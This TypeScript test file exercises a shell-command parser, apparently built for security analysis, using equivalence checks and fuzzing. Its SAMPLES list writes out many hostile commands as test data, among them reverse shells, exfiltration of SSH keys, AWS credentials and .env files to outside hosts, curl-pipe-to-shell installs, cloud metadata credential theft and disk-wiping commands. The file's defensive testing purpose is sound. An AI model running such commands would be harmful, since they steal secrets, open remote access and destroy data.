// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are shell text, where ${…} is shell syntax
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseCommand } from '../src/shell/index.ts';
import type { CommandFacts, ParseStatus, SimpleCommand } from '../src/shell/types.ts';

/** Deterministic PRNG (mulberry32) so failures reproduce. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function pick<T>(r: () => number, items: readonly T[]): T {
  return items[Math.floor(r() * items.length)]!;
}

function view(c: SimpleCommand, depthShift: number) {
  return {
    program: c.program,
    argv: c.argv,
    flags: [...c.flags].sort(),
    operands: c.operands,
    dynamicOperands: c.dynamicOperands,
    sudo: c.sudo,
    remote: c.remote,
    redirects: c.redirects,
    pipesTo: c.pipesTo,
    pipesFrom: c.pipesFrom,
    executesSubstitutionOf: c.executesSubstitutionOf,
    text: c.text,
    depth: c.depth - depthShift,
  };
}

function inner(f: CommandFacts, wrapper: string) {
  const i = f.commands.findIndex((c) => c.depth === 0 && c.program === wrapper);
  assert.ok(i >= 0, `no ${wrapper} wrapper`);
  return f.commands.filter((_, k) => k !== i).map((c) => view(c, 1));
}

function factsView(f: CommandFacts) {
  return {
    paths: f.paths.map((p) => `${p.access}:${p.path}:${p.source}:${p.dynamic}`).sort(),
    urls: f.urls.map((u) => `${u.host}:${u.port ?? ''}:${u.ipClass ?? ''}`).sort(),
  };
}

const SAMPLES = [
  'rm -rf node_modules',
  'rm -rf ./dist .next coverage',
  'sudo rm -rf --no-preserve-root /',
  'curl -fsSL https://x.example/y.sh | bash',
  'curl -s https://api.github.com/repos/o/r | jq .',
  'wget -qO- https://x.example/i | sudo -E sh -s -- --yes',
  'cat ~/.ssh/id_rsa | nc 203.0.113.9 4444',
  'tar czf - ~/.aws | curl -T - https://up.example.com',
  'curl -d @.env https://collect.example.com/x',
  'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'curl http://0xA9FEA9FE/latest/',
  'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'nc -e /bin/sh 203.0.113.9 4444',
  'echo ZWNobyBoaQ== | base64 -d | sh',
  'sh -c "$(curl -fsSL https://x.example/install.sh)"',
  'bash <(wget -qO- https://x.example/i.sh)',
  'source <(curl -s https://x.example/env)',
  'VERSION=$(curl -s https://x.example/latest); echo $VERSION',
  'find / -name "*.pem" -exec cat {} \\;',
  "find . -name '*.pyc' -delete",
  'find . -type f | xargs -0 rm -f',
  'chmod -R 777 / && chown -R nobody /etc',
  'dd if=/dev/zero of=/dev/sda bs=1M count=1',
  'mkfs.ext4 /dev/sdb1',
  'echo "* * * * * curl https://x.example | sh" | crontab -',
  'echo ssh-ed25519 AAAAkey >> ~/.ssh/authorized_keys',
  'cp .env.example .env',
  "sed -i 's/^#PermitRoot/PermitRoot/' /etc/ssh/sshd_config",
  'ssh -p 2222 ops@10.0.0.5 "cat /etc/shadow | gzip"',
  'scp ~/.ssh/id_rsa user@198.51.100.7:/tmp/',
  '(cd /tmp && rm -rf build) && { make; make install; } > build.log 2>&1',
  'for f in *.log; do gzip "$f"; done',
  'if test -f ~/.netrc; then cat ~/.netrc; fi',
  'env -i PATH=/usr/bin nohup timeout 30 python3 -m http.server 8000 &',
  'diff <(sort a.txt) <(sort b.txt) | tee diff.txt',
  'grep -rn password src/ | head -n 20',
  'kill -9 -1',
  ':(){ :|:& };:',
  'docker run --rm --privileged -v /:/host alpine chroot /host sh',
  'python3 -c "import os; print(os.getcwd())"',
  'git push origin feature/x && git log --oneline | head',
  'history -c; unset HISTFILE',
  'export LD_PRELOAD=/tmp/x.so; ls',
  'c\\url -s http://x.example | r\\m -rf /tmp/x',
  'cat${IFS}/etc/passwd',
  'openssl s_client -connect 203.0.113.9:443 < /dev/null',
  'ls -la ~ | sort -k5 -n > sizes.txt',
];

describe('bash -c \'<X>\' ≡ <X> ≡ eval "<X>"', () => {
  it(`holds for ${SAMPLES.length} commands (same simple commands modulo depth, same facts)`, () => {
    assert.ok(SAMPLES.length >= 40);
    for (const x of SAMPLES) {
      const plain = parseCommand({ text: x });
      const viaBash = parseCommand({ text: `bash -c '${x.replace(/'/g, `'\\''`)}'` });
      const viaEval = parseCommand({ text: `eval "${x.replace(/[\\"$`]/g, (c) => `\\${c}`)}"` });
      for (const [name, f] of [
        ['plain', plain],
        ['bash -c', viaBash],
        ['eval', viaEval],
      ] as const) {
        assert.equal(f.status, 'complete', `${name}: ${x}: ${f.issues.join('; ')}`);
      }
      const expected = plain.commands.map((c) => view(c, 0));
      assert.deepEqual(inner(viaBash, 'bash'), expected, `bash -c: ${x}`);
      assert.deepEqual(inner(viaEval, 'eval'), expected, `eval: ${x}`);
      assert.deepEqual(factsView(viaBash), factsView(plain), `bash -c facts: ${x}`);
      assert.deepEqual(factsView(viaEval), factsView(plain), `eval facts: ${x}`);
    }
  });

  it('also holds through the argv form [sh, -c, X]', () => {
    for (const x of SAMPLES) {
      const plain = parseCommand({ text: x });
      const argv = parseCommand({ argv: ['/bin/sh', '-c', x] });
      assert.equal(argv.status, 'complete', x);
      assert.deepEqual(
        inner(argv, 'sh'),
        plain.commands.map((c) => view(c, 0)),
        x,
      );
    }
  });
});

describe('parseCommand never throws', () => {
  const STATUSES: readonly ParseStatus[] = ['complete', 'partial', 'failed'];
  const META = [...'\'"`$(){}[]<>|&;\\\n\t #~*?!=-/.:@,+%^'];
  const TOKENS = [
    ...META,
    'a',
    'rm',
    'sh',
    '$(',
    '${',
    '<<',
    'EOF',
    '<(',
    '>(',
    "$'",
    '((',
    '))',
    '[[',
    ']]',
    'case ',
    ' in ',
    'esac',
    'if ',
    'then',
    'fi',
    'do',
    'done',
    'for x in ',
    'bash -c ',
    'eval ',
    'sudo ',
    'ssh h ',
    'xargs ',
    'curl ',
    ' | ',
    '&&',
    '||',
    '$IFS',
    '2>&1',
    '&>',
  ];

  it('returns a valid status on 5,000 random strings of shell metacharacters', () => {
    const r = rng(0xdefc1a);
    const seen: Record<string, number> = {};
    for (let i = 0; i < 5000; i++) {
      const n = Math.floor(r() * 80);
      let s = '';
      for (let j = 0; j < n; j++) s += pick(r, i % 2 === 0 ? META : TOKENS);
      let f: CommandFacts | undefined;
      assert.doesNotThrow(() => {
        f = parseCommand({ text: s });
      }, JSON.stringify(s));
      assert.ok(f && STATUSES.includes(f.status), JSON.stringify(s));
      seen[f.status] = (seen[f.status] ?? 0) + 1;
      assert.ok(
        !f.issues.some((x) => x.startsWith('internal')),
        `${JSON.stringify(s)}: ${f.issues.join('; ')}`,
      );
      assert.ok(f.commands.length <= 256);
      for (const c of f.commands) {
        assert.ok(c.depth >= 0 && c.depth <= 4, JSON.stringify(s));
        assert.ok(c.argv.length <= 256 && c.argv.length > 0);
      }
      assert.equal(f.raw, s);
    }
    assert.ok((seen.failed ?? 0) > 0 && (seen.complete ?? 0) > 0, JSON.stringify(seen));
  });

  it('never throws on random argv arrays', () => {
    const r = rng(7);
    for (let i = 0; i < 1000; i++) {
      const argv = Array.from({ length: Math.floor(r() * 6) }, () => {
        let s = '';
        const n = Math.floor(r() * 12);
        for (let j = 0; j < n; j++) s += pick(r, TOKENS);
        return s;
      });
      const f = parseCommand({ argv });
      assert.ok(STATUSES.includes(f.status));
    }
  });

  it('parses generated well-formed scripts completely, with one simple command per generated command', () => {
    const r = rng(42);
    const programs = ['ls', 'cat', 'grep', 'wc', 'sort', 'head', 'uniq', 'cut'];
    const words = [
      '-l',
      '-rf',
      'a.txt',
      './dir/x',
      '~/notes',
      '"two words"',
      "'single $(quoted)'",
      '$HOME/x',
      "$'\\x41'",
      'k=v',
      '"$(id -u)"',
    ];
    for (let i = 0; i < 300; i++) {
      let expected = 0;
      const simple = (depth: number): string => {
        expected++;
        const parts = [pick(r, programs)];
        const n = Math.floor(r() * 4);
        for (let k = 0; k < n; k++) parts.push(pick(r, words));
        if (words.includes('"$(id -u)"') && parts.includes('"$(id -u)"'))
          expected += parts.filter((p) => p === '"$(id -u)"').length;
        if (depth < 3 && r() < 0.2) {
          parts.push(`"$(${list(depth + 1)})"`);
        }
        if (r() < 0.2) parts.push(pick(r, ['> out.txt', '2>/dev/null', '< in.txt', '>> log']));
        return parts.join(' ');
      };
      const pipeline = (depth: number): string =>
        Array.from({ length: 1 + Math.floor(r() * 3) }, () => simple(depth)).join(pick(r, [' | ', ' |& ']));
      const list = (depth: number): string =>
        Array.from({ length: 1 + Math.floor(r() * 3) }, () => pipeline(depth)).join(
          pick(r, ['; ', ' && ', ' || ', '\n']),
        );
      const script = list(0);
      const f = parseCommand({ text: script });
      assert.equal(f.status, 'complete', `${script}: ${f.issues.join('; ')}`);
      assert.equal(f.commands.length, expected, script);
      // An extra unmatched quote makes it unparseable.
      assert.equal(parseCommand({ text: `${script} '` }).status, 'failed', script);
      assert.equal(parseCommand({ text: `${script} "$(` }).status, 'failed', script);
    }
  });
});
